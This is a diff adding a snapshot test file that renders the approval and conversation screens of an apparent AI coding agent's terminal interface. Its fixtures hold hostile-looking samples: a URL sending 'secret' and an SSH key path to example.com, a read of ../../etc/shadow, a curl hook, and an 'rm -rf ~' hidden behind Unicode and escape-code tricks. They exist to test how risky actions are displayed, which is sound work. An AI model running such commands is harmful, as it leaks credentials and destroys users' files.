@@ -1,0 +1,274 @@
+"""Every screen of the terminal UI as a picture, at three sizes. See `support.screens`."""
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from textual.pilot import Pilot
+
+from assent.approval import AskDetails, Choice, EditDetails, ExecDetails, InfoDetails, McpDetails, Question
+from assent.parts import MarkdownDisplay, PlainDisplay, TerminalDisplay, Todo, TodosDisplay
+from assent.tools.diff import diff
+from support.film import FOLDER, Film
+from support.screens import SIZES, Play, check, picture
+
+pytestmark = [pytest.mark.spec("G2"), pytest.mark.spec("G3")]
+
+ASK = "A test of this project fails. Find out why, fix it, and show me that it works."
+OLD = '''"""A shopping cart. Amounts are in cents."""
+
+
+def discount(amount: int) -> int:
+    """Ten percent from 100.00 on."""
+    return amount // 10 if amount > 10_000 else 0
+
+
+def shipping(amount: int) -> int:
+    """Free from 50.00 on."""
+    if amount >= 5_000:
+        return 0
+    return 490
+
+
+def rounded(amount: int) -> int:
+    """To the next five cents."""
+    return (amount + 2) // 5 * 5
+
+
+def total(amounts: list[int]) -> int:
+    amount = sum(amounts)
+    return amount - discount(amount)
+'''
+NEW = OLD.replace("amount > 10_000", "amount >= 10_000")
+TWO = NEW.replace("amount - discount(amount)", "rounded(amount - discount(amount)) + shipping(amount)")
+TESTS = "test_exact (test_cart.Total) ... \x1b[31mFAIL\x1b[0m\ntest_small (test_cart.Total) ... \x1b[32mok\x1b[0m\n"
+MARKDOWN = """The discount should begin *at* 100.00, but the code compares with `>`:
+
+```python
+def discount(amount: int) -> int:
+    return amount // 10 if amount > 10_000 else 0
+```
+
+- **one** character is wrong
+- the docstring is right
+
+| amount | discount |
+|---|---|
+| 99.99 | 0.00 |
+| 100.00 | 10.00 |
+"""
+
+
+def told() -> Film:
+    """A conversation with thoughts, calls of several outcomes and an answer."""
+    film = Film().prompt(ASK)
+    film.reply("I look at the project first.", "**Getting an overview**\nThree files. I read them before I touch them.")
+    film.call("list", "list_directory", dir_path=".").runs("list")
+    film.ends("list", PlainDisplay("cart.py\nREADME.md\ntest_cart.py"), ms=3)
+    film.call("read", "read_file", file_path="cart.py").runs("read").ends("read", PlainDisplay(OLD), ms=8)
+    film.call("test", "run_shell_command", command="python3 -m unittest -v", description="Run the tests").runs("test")
+    film.ends("test", TerminalDisplay(TESTS), ms=1234)
+    film.call("fix", "replace", file_path="cart.py", instruction="Begin at exactly 100.00").runs("fix")
+    film.ends("fix", diff("cart.py", OLD, NEW).display("cart.py"), ms=5)
+    return film.reply(MARKDOWN, "**Found it**\nThe docstring says *from*, the code says *above*.").over()
+
+
+def streaming() -> Film:
+    film = Film().prompt("Watch the tests.")
+    film.reply("I start them.").call("test", "run_shell_command", command="make test").runs("test", TESTS)
+    return film.call("look", "read_file", file_path="Makefile").runs("look").ends("look", PlainDisplay("all:"))
+
+
+def thinking() -> Film:
+    film = Film().prompt("Why is it slow?").reply("Let me see.").over().prompt("And now?")
+    return film.streams("It reads every file **twice**, because", ("Counting the reads", "Once for the digest …"))
+
+
+def failed_model() -> Film:
+    problem = "No key for the model. Get one for free at https://aistudio.google.com/apikey\nand set it in this shell."
+    return Film().prompt("Hello?").over("failed", problem)
+
+
+def failed_calls() -> Film:
+    film = Film().prompt("Try it.").reply("I try.")
+    film.call("a", "run_shell_command", command="make [all]").runs("a")
+    film.ends("a", TerminalDisplay("make: *** No rule to make target '[all]'.\n"), "error", "Exit code 2.", 35)
+    film.call("b", "read_file", file_path="../../etc/shadow")
+    film.ends("b", status="error", failure="../../etc/shadow is outside of the folder.\nAsk for a file inside of it.")
+    film.call("c", "write_file", file_path="notes.txt", content="x").ends("c", status="cancelled", failure="refused")
+    return film.over("cancelled")
+
+
+def todos() -> Film:
+    film = Film("plan").prompt("Plan it.").reply("Here is my plan.").call("t", "write_todos").runs("t")
+    film.ends(
+        "t", TodosDisplay((Todo("Read the code", "completed"), Todo("Fix it", "in_progress"), Todo("Rest", "pending")))
+    )
+    film.call("m", "web_search", query="python  [bold]rounding[/bold]").runs("m")
+    return film.ends("m", MarkdownDisplay("Use `decimal` [1].\n\n1. docs.python.org")).over()
+
+
+def waiting_queue() -> Film:
+    film = Film().prompt("Do it.").streams("I am at it.")
+    return film.queue("and then run the tests", "then commit\nwith a good message", "third", "fourth", "fifth")
+
+
+def wide() -> Film:
+    film = Film().prompt("请修复折扣错误 🛒 並解釋原因，謝謝。" * 4)
+    film.reply("折扣应从 **100.00** 开始。👩‍💻 " * 6 + "\n\n" + "x" * 300)
+    film.call("w", "write_file", file_path="文档/说明.md", content="…").runs("w")
+    film.ends("w", diff("文档/说明.md", "旧的一行 🙂\n", "新的一行，更长一些 🙂🙂\n").display("文档/说明.md"))
+    film.call("l", "run_shell_command", command="echo " + "very-long-word-" * 20).runs("l")
+    return film.ends("l", TerminalDisplay("很长的输出 " * 30)).over()
+
+
+# --- questions ---
+
+
+def asked(details: object, tool: str = "run_shell_command", why: str = "", **args: object) -> Film:
+    film = Film().prompt(ASK).reply("Now I need your assent.")
+    return film.asks("c1", tool, details, why or "It is not known to be harmless.", **args)  # type: ignore[arg-type]
+
+
+def edit(new: str, path: str = "cart.py", old: str | None = OLD, protected: str = "") -> EditDetails:
+    return EditDetails(path, diff(path, old, new).text, old, new, protected)
+
+
+def command(text: str, risk: str = "low", reason: str = "it runs a program of the project") -> ExecDetails:
+    return ExecDetails(text, (text.split()[0],), FOLDER, risk, reason)  # type: ignore[arg-type]
+
+
+def run(text: str, risk: str = "low", reason: str = "it runs a program of the project") -> Film:
+    return asked(command(text, risk, reason), command=text)
+
+
+def one_edit() -> Film:
+    return asked(edit(NEW), "replace", "Changing a file needs your assent.", file_path="cart.py")
+
+
+def two_parts() -> Film:
+    return asked(edit(TWO), "replace", "Changing a file needs your assent.", file_path="cart.py")
+
+
+def new_file() -> Film:
+    details = edit("hooks:\n  - run: [curl, example.com]\n", ".assent/settings.yml", None, "it configures Assent")
+    return asked(details, "write_file", "The file is protected.", file_path=".assent/settings.yml")
+
+
+def web() -> Film:
+    url = "https://example.com/collect?data=%68%65%6c%6c%6f%20secret&next=%2Fhome%2Fann%2F.ssh%2Fid_rsa"
+    details = InfoDetails("Summarise what is there", (url,), ("the address carries a lot of data",))
+    return asked(details, "web_fetch", "Fetching a page needs your assent.", prompt="Summarise", url=url)
+
+
+def server() -> Film:
+    args = {
+        "title": "A [bold]bug[/bold]\nin two lines",
+        "labels": ["bug", "cart"],
+        "author": {"name": "Ann", "mail": {"work": "ann@example.com", "verified": True}},
+        "count": 3,
+        "nothing": None,
+    }
+    details = McpDetails("tracker", "create_issue", args, "Creates an issue.", unseen="This tool is new.")
+    return asked(details, "mcp_tracker_create_issue", "Tools of servers ask.", **args)
+
+
+def question() -> Film:
+    details = AskDetails(
+        (
+            Question("Which database should it be?", options=(Choice("SQLite", "one file"), Choice("Postgres"))),
+            Question("May it be dropped?", "yesno"),
+            Question("What is its name?", "text", placeholder="cart"),
+        )
+    )
+    return asked(details, "ask_user", "The model wants to know.")
+
+
+def several() -> Film:
+    film = run("python3 -m unittest -v")
+    film.asks("c2", "replace", edit(NEW), "Changing a file needs your assent.", file_path="cart.py")
+    return film.asks("c3", "run_shell_command", command("git push", "medium", "it sends"), command="git push")
+
+
+def long_command() -> Film:
+    return run("\n".join(f"echo step {number} of a long script" for number in range(60)), "medium", "it is long")
+
+
+def hidden() -> Film:
+    text = "echo harmless\u202e # gnihton\u200b\x1b[2J\x1b[H" + " " * 300 + "\r rm -rf ~ раураl"
+    return run(text, "high", "it deletes files [bold]for good[/bold]")
+
+
+# --- what a person does before the picture ---
+
+
+def presses(*keys: str) -> Play:
+    async def play(pilot: "Pilot[None]") -> None:
+        for key in keys:
+            await pilot.press(key)
+            for _ in range(3):
+                await pilot.pause()
+
+    return play
+
+
+def types(line: str) -> Play:
+    return presses(*line, "enter")
+
+
+SCREENS: dict[str, tuple[Callable[[], Film], Play | None]] = {
+    "start": (Film, None),
+    "conversation": (told, None),
+    "conversation-unfolded": (told, presses("ctrl+o")),
+    "conversation-selected": (told, presses("ctrl+up", "up")),
+    "live-output": (streaming, None),
+    "thinking": (thinking, None),
+    "model-failed": (failed_model, None),
+    "calls-failed": (failed_calls, None),
+    "todos": (todos, presses("ctrl+o")),
+    "queue": (waiting_queue, None),
+    "wide": (wide, presses("ctrl+o")),
+    "ask-edit": (one_edit, None),
+    "ask-edit-side-by-side": (one_edit, presses("v")),
+    "ask-edit-parts": (two_parts, presses("right_square_bracket", "space")),
+    "ask-edit-protected": (new_file, None),
+    "ask-command": (lambda: run("python3 -m unittest -v"), None),
+    "ask-command-medium": (lambda: run("git push origin main", "medium", "it sends to another machine"), None),
+    "ask-command-high": (lambda: run("rm -rf build", "high", "it deletes files"), None),
+    "ask-command-long": (long_command, presses("y")),
+    "ask-command-hidden": (hidden, None),
+    "ask-web": (web, None),
+    "ask-server": (server, None),
+    "ask-question": (question, None),
+    "ask-several": (several, presses("right")),
+    "ask-unfocused": (several, presses("escape")),
+    "answer-scope": (lambda: run("python3 -m unittest -v"), presses("a")),
+    "answer-reason": (lambda: run("python3 -m unittest -v"), presses("r", "n", "o")),
+    "answer-arguments": (server, presses("i")),
+    "answer-question": (question, presses("y")),
+    "help": (Film, types("/help")),
+    "stats": (told, types("/stats")),
+    "tools": (Film, types("/tools")),
+    "approvals": (several, presses("escape", *"/approvals", "enter")),
+}
+
+
+@pytest.mark.parametrize("size", SIZES, ids=lambda size: f"{size[0]}x{size[1]}")
+@pytest.mark.parametrize("name", SCREENS)
+async def test_a_screen_looks_as_it_did(
+    name: str, size: tuple[int, int], request: pytest.FixtureRequest, tmp_path: Path
+):
+    film, play = SCREENS[name]
+    svg = await picture(film(), size, play)
+    update = bool(request.config.getoption("--update-screens"))
+    check(f"{name}-{size[0]}x{size[1]}", svg, update=update, folder=tmp_path)
+
+
+@pytest.mark.parametrize("look", ["light", "contrast", "plain"])
+@pytest.mark.parametrize("name", ["conversation", "ask-edit-parts", "ask-command-high"])
+async def test_a_screen_in_another_look_looks_as_it_did(
+    name: str, look: str, request: pytest.FixtureRequest, tmp_path: Path
+):
+    film, play = SCREENS[name]
+    svg = await picture(film(), (80, 24), play, look)
+    check(f"{name}-{look}", svg, update=bool(request.config.getoption("--update-screens")), folder=tmp_path)
